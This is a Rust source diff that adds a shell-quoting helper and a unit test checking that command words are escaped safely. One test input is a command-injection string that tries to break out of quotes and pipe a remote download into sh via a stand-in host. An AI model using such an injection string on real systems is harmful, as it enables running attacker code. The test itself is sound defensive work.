@@ -29,6 +29,15 @@ impl fmt::Display for OneLine<'_> {
     }
 }
 
+/// Quotes a word of a command where a shell would read more than its letters.
+pub fn shell(word: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-+=:,./@%".contains(&byte);
+    match !word.is_empty() && word.bytes().all(is_plain) {
+        true => Cow::Borrowed(word),
+        false => Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))),
+    }
+}
+
 /// Escapes every hidden character but the ends of lines, as [`OneLine`] does.
 pub fn lines(text: &str) -> Cow<'_, str> {
     replaced(text, |c, out| {
@@ -68,6 +77,20 @@ mod tests {
     use serde_json::Value;
 
     use super::*;
+
+    #[test]
+    fn words_are_quoted_for_the_shell() {
+        for (word, text) in [
+            ("ls", "ls"),
+            ("team/app:v1", "team/app:v1"),
+            ("team/*", "'team/*'"),
+            ("", "''"),
+            ("it's", r"'it'\''s'"),
+            ("x'$(curl evil|sh)'*", r"'x'\''$(curl evil|sh)'\''*'"),
+        ] {
+            assert_eq!(shell(word), text);
+        }
+    }
 
     #[test]
     fn hidden_characters_are_named() {
